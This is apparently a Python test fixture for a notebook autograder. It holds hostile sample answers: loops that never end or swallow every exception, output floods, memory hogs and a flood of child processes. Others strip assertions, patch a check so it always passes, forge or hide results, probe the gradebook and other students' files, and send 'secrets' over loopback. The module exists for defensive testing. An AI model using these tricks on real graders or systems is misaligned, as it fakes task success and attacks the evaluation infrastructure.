"""Answers that want to harm the grader; each is bounded in itself, also without a sandbox."""

from sample_class.notebooks import CORRECT, HEAD

GIGABYTE = 1 << 30
CHILDREN, CHILD_SECONDS = 200, "117.318"  # the odd number tells our children from others
LONGEST = 240  # seconds after which every loop here gives up by itself

ENDLESS = HEAD + f'''    import time
    start = time.monotonic()
    while n > 1 and time.monotonic() < start + {LONGEST}:
        pass
''' + CORRECT.removeprefix(HEAD)

STUBBORN = HEAD + f'''    import time
    start = time.monotonic()
    while time.monotonic() < start + {LONGEST}:
        try:
            while time.monotonic() < start + {LONGEST}:
                pass
        except BaseException:
            pass
''' + CORRECT.removeprefix(HEAD)

EXIT = HEAD + "    import os\n    os._exit(0)\n"

LOUD = '''for _ in range(50):
    print("spam " * 200_000)
'''

NO_ASSERTIONS = '''import ast

class WithoutAssertions(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.copy_location(ast.Pass(), node)

get_ipython().ast_transformers.append(WithoutAssertions())
'''

PATCHED_CHECK = '''import labutils.checks
from labutils.checks import CheckResult

def check_smoothgrad(function):
    return CheckResult("smoothgrad")

labutils.checks.check_smoothgrad = check_smoothgrad
'''

SWALLOWED_ERRORS = '''get_ipython().set_custom_exc((BaseException,), lambda *details, **more: None)
'''

FORGED_RESULT = HEAD + '''    import sys
    sys.displayhook(12.0)
    return torch.zeros(len(X), 224, 224)
'''

# What a test's cell shows goes elsewhere, or is more than is kept.
HIDDEN_RESULT = HEAD + '''    import ipywidgets
    ipywidgets.Output().__enter__()
    print("x" * 300_000)
    return torch.zeros(len(X), 224, 224)
'''

NO_RESULT = HEAD + '''    get_ipython().displayhook.set_parent({"header": {}})
    return torch.zeros(len(X), 224, 224)
'''

QUOTES_TESTS = CORRECT.replace(
    "    maps =", "    print(get_ipython().user_ns['In'][-1])\n    maps =")

CROWD = f'''import subprocess
children = [subprocess.Popen(["sleep", "{CHILD_SECONDS}"], start_new_session=True)
            for _ in range({CHILDREN})]
import time
time.sleep(5)
'''


def hog(limit_bytes: int) -> str:
    """Asks for 4 GB more than it may have; touches none of it."""
    return HEAD + f'''    everything = np.zeros({limit_bytes + 4 * GIGABYTE}, dtype=np.uint8)
    everything[::4096] = 1
''' + CORRECT.removeprefix(HEAD)


def spy(paths: list[str]) -> str:
    """Looks for the gradebook, the sources and others' work."""
    return f'''import os
for path in {paths!r}:
    try:
        size = len(os.listdir(path)) if os.path.isdir(path) else len(open(path, "rb").read(100))
        print("spy: can read", path, size)
    except OSError as error:
        print("spy: no", type(error).__name__)
'''


def caller(port: int) -> str:
    """Calls home over the loopback interface."""
    return f'''import socket
try:
    socket.create_connection(("127.0.0.1", {port}), timeout=3).sendall(b"secrets")
    print("call: got through")
except OSError as error:
    print("call: no", type(error).__name__)
'''
